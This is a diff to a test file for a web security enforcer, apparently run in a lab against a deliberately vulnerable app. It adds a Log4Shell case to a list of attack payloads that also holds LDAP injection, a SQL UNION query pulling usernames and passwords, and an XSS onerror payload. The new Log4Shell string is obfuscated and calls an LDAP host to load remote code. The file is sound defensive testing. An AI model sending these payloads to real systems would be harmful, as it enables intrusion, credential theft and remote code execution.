@@ -1,5 +1,6 @@
-"""Command injection, LDAP injection, and SQLi and XSS in a multipart form, from a real client (curl)
-through the real enforcer to a real web app (`lab.vulnapp`) in the lab: in Protect the attack's
+"""Command injection, LDAP injection, SQLi and XSS in a multipart form, and Log4Shell in a header, from
+a real client (curl) through the real enforcer to a real web app (`lab.vulnapp`) in the lab: in Protect
+the attack's
 connection is reset before any answer and a `threat` event says why, its benign twin (the same
 parameter, look-alike text) is answered 200 before and after; in Monitor the same attacks are answered
 and reported. The multipart forms carry an 8 KiB upload of an HTML page full of script before the
@@ -40,6 +41,7 @@ CASES = [
     ("ldap_injection", "query", "/login", "user=*)(uid=*))(|(uid=*", "user=John (Smith)*"),
     ("sql_injection", "multipart", "/profile", "name=x' UNION SELECT username, password FROM users-- -", "name=O'Brien & Sons; we select the best, union-made since 1999"),
     ("xss", "multipart", "/profile", 'bio="><img src=x onerror=alert(document.domain)>', "bio=I <3 maths: 2 > 1 & a=\"b\""),
+    ("log4shell", "header", "/search?q=widget", "X-Api-Version: ${${::-j}${lower:N}di:ldap://198.18.0.9:1389/a}", "X-Api-Version: ${project.version}"),
 ]  # fmt: skip
 PAGE = "<p><script>document.title = 'shop'</script><img src=x onerror=retry()></p>\n" * 110  # ~8 KiB
 
@@ -74,6 +76,8 @@ def send(lab: Lab, addr: str, how: str, path: str, data: str, page: Path) -> str
     cmd = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "5"]
     if how == "multipart":
         cmd += ["-F", f"page=@{page};type=text/html", "--form-string", data]
+    elif how == "header":
+        cmd += ["-H", data]
     else:
         cmd += ["-H", f"Content-Type: {FORM}", "--data-binary", data]
     cmd.append(f"http://{addr}:{PORT}{path}")
